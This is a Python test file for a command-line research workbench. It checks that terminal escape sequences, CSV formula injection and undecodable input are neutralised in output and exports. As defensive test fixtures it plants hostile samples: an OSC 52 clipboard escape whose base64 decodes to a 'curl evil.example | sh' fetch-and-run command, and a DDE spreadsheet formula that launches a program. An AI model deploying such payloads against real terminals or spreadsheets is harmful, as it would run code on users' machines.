"""Terminal escapes, formula injection and undecodable input."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.core.project import Project
from workbench.core.text import CONTROLS, normalise
from workbench.io.refi.textmap import CODE_POINTS, TextMap

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"


def _hostile(interview):
    with Project.open(interview, write=True) as project:
        doc = project.documents.all()[0]
        with project.change("hostile"):  # as an older or hand-edited file may hold them
            project.documents.put(type(doc)(**{**{f: getattr(doc, f) for f in (
                "id", "case", "source", "order", "paragraphs", "created", "modified")},
                "name": f"doc{OSC52}", "text": doc.text + OSC52 + "\x9b31m\n"}))
            project.codebook.ensure("Evil\x1b[2J")
        doc = project.documents.all()[0]
        project.codings.add(doc, 0, 11, "Evil\x1b[2J", "ann")
        project.cases.set("case\x1b]0;title\x07", {"city": "=cmd|' /C calc'!A0"})
        project.save()


def test_nothing_printed_holds_a_raw_escape(interview, cli):
    _hostile(interview)
    for args in (("docs",), ("codes",), ("quotes",), ("cases",), ("names",),
                 ("search", "letter"), ("memos",), ("check",)):
        status, out, err = cli(*args[:1], interview, *args[1:])
        for stream in (out, err):
            assert not CONTROLS.search(stream.replace("\n", "").replace("\t", "")), (args, stream)
    status, out, err = cli("text", interview, "nope\x1b[31m")
    assert status == 2 and "\x1b" not in err


def test_json_escapes_c1_and_keeps_the_value(interview, cli):
    _hostile(interview)
    status, out, _ = cli("docs", interview, "--json")
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    assert json.loads(out)[0]["name"] == f"doc{OSC52}"


def test_text_on_a_terminal_is_cleaned_and_piped_is_exact(interview, tmp_path):
    _hostile(interview)
    code = ("import sys; sys.stdout.isatty = lambda: True; from workbench.cli.main import main;"
            f"sys.exit(main(['text', {str(interview)!r}, 'doc{OSC52}']))")
    on_tty = subprocess.run([sys.executable, "-c", code], capture_output=True)
    assert on_tty.returncode == 0
    assert b"\x1b" not in on_tty.stdout and b"\xc2\x9b" not in on_tty.stdout
    piped = subprocess.run(
        [sys.executable, "-m", "workbench", "text", str(interview), f"doc{OSC52}"],
        capture_output=True,
    )
    assert piped.stdout.decode() == Project.open(interview).documents.all()[0].text


def test_import_drops_controls_and_says_how_many(interview, cli, tmp_path):
    source = tmp_path / "escapes.txt"
    source.write_text(f"Dana: hello{OSC52} there\fpage two\n", encoding="utf-8")
    status, out, _ = cli("import", interview, source)
    assert status == 0 and "control characters removed" in out
    doc = Project.open(interview).documents.by_name("escapes")
    assert doc.text == "Dana: hello]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= there\npage two\n"


_PIECES = ["a", "é", "e\u0301", "\r\n", "\r", "\n", "\t", "\ufeff", "\x1b", "\x0c", "\x85",
           "\x00", "\x9b", "\x7f", " ", "Ж"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=20).map("".join))
def test_normalise_drops_controls_idempotently(text):
    once = normalise(text)
    assert not CONTROLS.search(once)
    assert normalise(once) == once


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([p for p in _PIECES if not CONTROLS.search(p)]), max_size=20)
       .map("".join))
def test_text_without_controls_normalises_as_before(text):
    import unicodedata

    before = unicodedata.normalize(
        "NFC", text.lstrip("\ufeff").replace("\r\n", "\n").replace("\r", "\n"))
    assert normalise(text) == before  # no stored offset of a valid file moves


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*_PIECES, "x"]), max_size=20).map("".join))
def test_refi_positions_follow_dropped_controls(raw):
    tmap = TextMap(raw)
    stripped = raw.lstrip("\ufeff")
    for i, ch in enumerate(stripped):
        if ch == "x":
            start, end, _ = tmap.span(CODE_POINTS, i, i + 1)
            assert tmap.text[start:end] == "x"


def test_csv_cells_never_start_a_formula(interview, cli, tmp_path):
    _hostile(interview)
    with Project.open(interview, write=True) as project:
        doc = project.documents.all()[0]
        project.documents.set_case(doc, "case\x1b]0;title\x07")
        project.save()
    target = tmp_path / "out.csv"
    assert cli("export", interview, "--format", "csv", "-o", target)[0] == 0
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=cmd|' /C calc'!A0" in [c for r in rows for c in r]
    status, out, _ = cli("report", interview, "matrix", "--by", "city", "--csv")
    assert status == 0
    assert not any(c.startswith("=") for r in csv.reader(io.StringIO(out)) for c in r)


def test_undecodable_arguments_and_stdin_are_clean_errors(interview, tmp_path):
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    bad = os.fsdecode(b"caf\xe9")  # a Latin-1 name: a lone surrogate in argv
    for args in (["case", str(interview), bad],
                 ["code", str(interview), "interview", "0", "5", bad],
                 ["import", str(interview), str(tmp_path / bad)]):
        done = subprocess.run([sys.executable, "-m", "workbench", *args], capture_output=True,
                              env=env)
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith(b"error: ") and b"UTF-8" in done.stderr
        assert b"internal error" not in done.stderr
    done = subprocess.run([sys.executable, "-m", "workbench", "memo", str(interview), "--on",
                           "project", "--text", "-"], input=b"caf\xe9\n", capture_output=True,
                          env=env)
    assert done.returncode == 2 and b"not UTF-8" in done.stderr


def test_markdown_and_html_write_ups_hold_no_controls(interview, cli, tmp_path):
    _hostile(interview)
    for fmt in ("md", "html"):
        target = tmp_path / f"out.{fmt}"
        assert cli("export", interview, "--format", fmt, "-o", target)[0] == 0
        written = target.read_text(encoding="utf-8")
        assert not CONTROLS.search(written), fmt
        assert "Evil\ufffd" in written
